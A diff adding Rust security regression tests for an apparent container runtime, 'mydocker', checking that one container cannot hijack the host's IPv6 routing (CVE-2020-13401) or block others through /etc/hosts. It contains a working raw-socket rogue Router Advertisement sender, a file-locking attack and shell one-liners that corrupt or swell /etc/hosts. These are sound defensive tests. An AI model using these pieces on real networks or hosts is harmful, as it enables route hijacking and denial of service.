@@ -1,0 +1,121 @@
+//! One container against the others on its network, and against the host's network.
+
+use std::fs::{self, File};
+use std::os::fd::AsRawFd;
+
+use super::support::machine::Side;
+use super::support::{Host, eventually};
+use super::{attack, must_be_inside, with_attack};
+
+/// CVE-2020-13401: a container advertised itself as an IPv6 router, and the host took it for its way
+/// to the world. Guard: the bridge accepts no advertisements.
+#[test]
+fn no_container_becomes_the_hosts_router() {
+    let host = Host::on_machine();
+    // One network without IPv6, one with it.
+    let flags = ["network", "create", "--ipv6", "--subnet", "fd00:9::/64", "six"];
+    host.mydocker(flags);
+    for network in ["mydocker0", "six"] {
+        let attack_here = with_attack();
+        let flags = ["run", "--rm", "--net", network, "-v", &attack_here, "bb"];
+        host.mydocker(flags.iter().copied().chain(attack("neighbours::advertise_a_router")));
+        let routes = host.machine().run(Side::Here, &["ip", "-6", "route"]);
+        assert!(!routes.contains("fe80::bad"), "by way of {network}: {routes}");
+        let addresses = host.machine().run(Side::Here, &["ip", "-6", "address"]);
+        assert!(!addresses.contains("2001:db8:bad"), "by way of {network}: {addresses}");
+    }
+}
+
+#[test]
+#[ignore = "an attack, run inside a container"]
+fn advertise_a_router() {
+    must_be_inside();
+    // Neighbor Discovery (RFC 4861): a router for 1,800 s, with a prefix to make addresses of.
+    let source = [0xfe, 0x80, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0x0b, 0xad];
+    let everyone = [0xff, 2, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1];
+    let mut message = vec![134, 0, 0, 0, 64, 0, 0x07, 0x08, 0, 0, 0, 0, 0, 0, 0, 0];
+    message.extend([3, 4, 64, 0xc0, 0, 0, 0x0e, 0x10, 0, 0, 0x0e, 0x10, 0, 0, 0, 0]);
+    message.extend([0x20, 1, 0x0d, 0xb8, 0x0b, 0xad, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
+    let mut summed = [source, everyone].concat();
+    summed.extend([0, 0, 0, message.len() as u8, 0, 0, 0, 58]);
+    summed.extend(&message);
+    let words = summed.chunks(2).map(|pair| u32::from(pair[0]) << 8 | u32::from(pair[1]));
+    let mut sum: u32 = words.sum();
+    sum = (sum & 0xffff) + (sum >> 16);
+    let checksum = !((sum & 0xffff) + (sum >> 16)) as u16;
+    message[2..4].copy_from_slice(&checksum.to_be_bytes());
+    let mut frame = vec![0x33, 0x33, 0, 0, 0, 1, 2, 0, 0, 0, 0x0b, 0xad, 0x86, 0xdd];
+    frame.extend([0x60, 0, 0, 0, 0, message.len() as u8, 58, 255]);
+    frame.extend([source, everyone].concat());
+    frame.extend(message);
+    // SAFETY: plain integers in, a descriptor or -1 out.
+    let socket = unsafe { libc::socket(libc::AF_PACKET, libc::SOCK_RAW, 0) };
+    assert!(socket >= 0, "no raw socket: the attack proves nothing");
+    // SAFETY: all zeroes is a valid address; the name is a C string.
+    let (mut to, eth0) = unsafe {
+        (std::mem::zeroed::<libc::sockaddr_ll>(), libc::if_nametoindex(c"eth0".as_ptr()))
+    };
+    to.sll_family = libc::AF_PACKET as u16;
+    to.sll_ifindex = eth0 as i32;
+    for _ in 0..20 {
+        // SAFETY: frame and address live, and are as long as is said.
+        let sent = unsafe {
+            let length = size_of::<libc::sockaddr_ll>() as u32;
+            libc::sendto(
+                socket,
+                frame.as_ptr().cast(),
+                frame.len(),
+                0,
+                (&raw const to).cast(),
+                length,
+            )
+        };
+        assert_eq!(sent, frame.len() as isize, "{}", std::io::Error::last_os_error());
+    }
+}
+
+/// The files by which a container knows its neighbours are its own to lock and to spoil; while it
+/// does, others come and go. Guards: the lock that writers hold is not on that file, and what is in
+/// it is taken as it comes.
+#[test]
+fn a_hosts_file_in_hostile_hands_holds_nobody_up() {
+    let host = Host::on_machine();
+    host.mydocker(["network", "create", "shared"]);
+    let attack_here = with_attack();
+    let begin = |name: &str, command: &[&str]| {
+        let flags = ["run", "-d", "--name", name, "--net", "shared", "-v", &attack_here, "bb"];
+        host.mydocker([&flags[..], command].concat());
+        eventually("it has struck", || host.mydocker(["logs", name]).text().contains("struck"));
+    };
+    begin("locks", &attack("neighbours::lock_the_hosts_file"));
+    begin("spoils", &["sh", "-c", "printf '\\377\\376\\n' >/etc/hosts; echo struck; sleep 1000"]);
+    begin(
+        "swells",
+        &[
+            "sh",
+            "-c",
+            "dd if=/dev/zero of=/etc/hosts bs=1 count=1 seek=100G; echo struck; sleep 1000",
+        ],
+    );
+    let see = "grep -c -w -e locks -e spoils -e swells /etc/hosts";
+    host.mydocker(["run", "--rm", "--net", "shared", "bb", "sh", "-c", see]).stdout("3\n");
+    // And they themselves are told still, where they can be.
+    host.mydocker(["run", "-d", "--name", "late", "--net", "shared", "bb", "sleep", "1000"]);
+    for name in ["locks", "spoils"] {
+        host.mydocker(["exec", name, "grep", "-qw", "late", "/etc/hosts"]);
+    }
+    host.mydocker(["rm", "-f", "locks", "spoils", "swells", "late"]);
+}
+
+#[test]
+#[ignore = "an attack, run inside a container"]
+fn lock_the_hosts_file() {
+    must_be_inside();
+    let file = File::open("/etc/hosts").unwrap();
+    // SAFETY: an open descriptor and a constant.
+    assert_eq!(unsafe { libc::flock(file.as_raw_fd(), libc::LOCK_EX) }, 0);
+    println!("struck");
+    while fs::exists("/etc/hosts").unwrap() {
+        std::thread::sleep(std::time::Duration::from_secs(1000));
+    }
+}
